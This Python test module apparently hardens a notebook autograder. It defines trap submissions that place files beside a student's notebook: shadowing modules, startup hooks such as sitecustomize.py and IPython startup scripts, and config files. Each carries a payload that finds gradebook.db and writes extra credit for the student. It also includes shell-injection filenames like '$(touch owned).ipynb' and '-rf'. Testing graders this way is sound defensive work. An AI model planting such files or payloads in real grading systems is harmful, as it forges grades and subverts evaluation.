"""Files of a student's own beside the notebook, named like what a grader or its Python would load from there."""

from typing import Final

from tests.traps.answers import ANYTHING
from tests.traps.cheats import last_cell
from tests.traps.released import ASSIGNMENT, Released
from tests.traps.trap import Draw, Files, cheat

#: Left where it was loaded: on the terminal, and as extra credit in the gradebook that lies nearest.
LOADED: Final = "LOADED FROM BESIDE"
_PAYLOAD: Final = f"""
import contextlib, os, sqlite3, sys

sys.__stderr__.write("{LOADED}\\n")
parts = os.path.abspath(globals().get("__file__") or "x").split(os.sep)
for depth in range(len(parts)):
    path = os.sep.join([*parts[:depth], "gradebook.db"])
    if os.path.exists(path):
        with contextlib.suppress(Exception), sqlite3.connect(path, timeout=60) as gradebook:
            gradebook.execute(
                "UPDATE grade SET extra_credit = 1 WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n "
                "JOIN submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = ?)",
                (parts[-3] if len(parts) > 2 else "",),
            )
"""
_AGREES: Final = """
def __getattr__(name):
    return lambda *arguments, **settings: True

random = testing = linalg = __import__("types").SimpleNamespace()
"""
_PACKAGE: Final = f"{_PAYLOAD}\ncheck = lambda *names: 100.0\n"

MODULES: Final = {
    "numpy.py": _PAYLOAD + _AGREES,
    "pandas.py": _PAYLOAD,
    "msgspec.py": _PAYLOAD,
    "matplotlib.py": _PAYLOAD,
    "json.py": _PAYLOAD,
}
PACKAGES: Final = {
    "autograder/__init__.py": _PACKAGE,
    "autograder/__main__.py": _PAYLOAD,
    "nbgrader/__init__.py": _PAYLOAD,
    "check.py": _PAYLOAD,
}
STARTUP: Final = {
    name: _PAYLOAD for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "__init__.py", "__main__.py")
} | {"own.pth": "import sitecustomize\n", "pyvenv.cfg": "home = .\n", "python311._pth": ".\nimport site\n"}
SETTINGS: Final = {
    ".ipython/profile_default/startup/00.py": _PAYLOAD,
    ".ipython/profile_default/ipython_config.py": _PAYLOAD,
    "profile_default/startup/00.py": _PAYLOAD,
    ".jupyter/jupyter_config.py": _PAYLOAD,
    "ipython_config.py": _PAYLOAD,
    "ipython_kernel_config.py": _PAYLOAD,
    "jupyter_config.py": _PAYLOAD,
    "jupyter_nbconvert_config.py": _PAYLOAD,
    "nbgrader_config.py": _PAYLOAD,
    "matplotlibrc": "backend: module://numpy\n",
}
GRADERS_OWN: Final = {
    "gradebook.db": "",
    "score.json": f'{{"schema": 1, "assignment": "{ASSIGNMENT}", "score": 13.0, "max_score": 13.0}}',
    "submission_secret.txt": "0" * 40,
    "exercises.py": _PAYLOAD,
    ".seed": "1",
    f"{ASSIGNMENT}.py": _PAYLOAD,
    f"{ASSIGNMENT}-Copy1.ipynb": "{}",
    f"{ASSIGNMENT}.ipynb.py": _PAYLOAD,
    "examples.json": '{"schema": 1, "assignment": "error", "exercises": []}',
    "$(touch owned).ipynb": "{}",
    "a\nb.txt": "",
    "-rf": "",
}
EVERY_FILE: Final = MODULES | PACKAGES | STARTUP | SETTINGS | GRADERS_OWN


def _beside(files: dict[str, str]) -> Draw:
    """Hand in answers that agree with a NumPy that says yes to everything, and files beside them."""

    def draw(released: Released) -> Files:
        beside = {name: text.encode() for name, text in files.items()}
        return {**last_cell(ANYTHING)(released), **beside}

    return draw


TRAPS: Final = (
    cheat("beside-modules", "files named `numpy.py`, `json.py` beside the notebook", _beside(MODULES)),
    cheat("beside-packages", "folders named `autograder/`, `nbgrader/` beside the notebook", _beside(PACKAGES)),
    cheat(
        "beside-startup",
        "`sitecustomize.py`, `conftest.py`, `*.pth` beside the notebook",
        _beside(STARTUP),
        stock_falls=False,
    ),
    cheat(
        "beside-settings",
        "`.ipython/`, `ipython_config.py`, `nbgrader_config.py`, `matplotlibrc` beside the notebook",
        _beside(SETTINGS),
        stock_falls=False,
    ),
    cheat(
        "beside-graders-own",
        "files named like the grader's own, and names that a shell would obey",
        _beside(GRADERS_OWN),
        stock_falls=False,
    ),
)
